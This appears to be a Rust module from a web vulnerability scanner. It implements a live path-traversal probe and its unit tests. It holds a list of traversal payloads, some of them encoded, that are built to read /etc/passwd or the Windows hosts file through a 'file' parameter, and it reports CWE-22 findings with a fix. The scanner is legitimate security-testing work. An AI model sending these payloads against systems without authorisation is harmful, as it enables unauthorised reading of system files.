use async_trait::async_trait;
use reqwest::Client;
use tokio::time::Instant;

use super::{excerpt, new_match, system_file_patterns, target_of, with_param, Probe};
use crate::error::ModuleError;
use crate::exploits::{
    ExecutionMode, ExploitKind, ExploitModule, ModuleOutput, ScanOptions, Severity, Subject,
    Vulnerability,
};

const KIND: &str = "Path traversal";
const PARAM: &str = "file";

const PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
];

/// Directory escapes on the `file` parameter.
pub struct PathTraversalProbe {
    client: Client,
}

impl PathTraversalProbe {
    pub fn new(client: Client) -> Self {
        Self { client }
    }
}

#[async_trait]
impl ExploitModule for PathTraversalProbe {
    fn mode(&self) -> ExecutionMode {
        ExecutionMode::Live
    }

    async fn run(
        &self,
        subject: &Subject,
        options: &ScanOptions,
        deadline: Instant,
    ) -> Result<ModuleOutput, ModuleError> {
        let target = target_of(subject, ExploitKind::PathTraversal)?;
        let probe = Probe::new(&self.client, options, deadline);
        let baseline = probe.baseline(target).await?;

        for payload in PAYLOADS {
            probe.ensure_time()?;
            let url = with_param(target, PARAM, payload);
            let Some(response) = probe.attempt(probe.client().get(url.clone())).await? else {
                continue;
            };
            if let Some(matched) = new_match(system_file_patterns(), &response.body, &baseline.body)
            {
                let finding = Vulnerability::new(
                    KIND,
                    Severity::Critical,
                    url.as_str(),
                    "System file contents returned for a traversal sequence",
                )
                .with_payload(*payload)
                .with_evidence(excerpt(&response.body, matched))
                .with_recommendation(
                    "Resolve requested paths against a fixed base directory and reject anything outside it.",
                )
                .with_cwe("CWE-22");
                // One confirmed read is enough.
                return Ok(ModuleOutput::new(vec![finding], 0));
            }
        }

        Ok(ModuleOutput::new(Vec::new(), 0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exploits::live::fixture;
    use axum::{extract::Query, routing::get, Router};
    use std::collections::HashMap;

    async fn download(Query(q): Query<HashMap<String, String>>) -> String {
        match q.get("file") {
            Some(f) if f.contains("etc/passwd") && f.starts_with("..") => {
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1".into()
            }
            _ => "file not found".into(),
        }
    }

    #[tokio::test]
    async fn reports_single_confirmed_read() {
        let url = fixture::serve(Router::new().route("/", get(download))).await;
        let output = PathTraversalProbe::new(fixture::client())
            .run(&Subject::Target(url), &ScanOptions::default(), fixture::deadline())
            .await
            .unwrap();
        assert_eq!(output.vulnerabilities.len(), 1);
        let finding = &output.vulnerabilities[0];
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(finding.payload.as_deref(), Some("../../../etc/passwd"));
    }

    #[tokio::test]
    async fn static_page_passes() {
        let url = fixture::serve(Router::new().route("/", get(|| async { "hello" }))).await;
        let output = PathTraversalProbe::new(fixture::client())
            .run(&Subject::Target(url), &ScanOptions::default(), fixture::deadline())
            .await
            .unwrap();
        assert!(output.vulnerabilities.is_empty());
    }
}
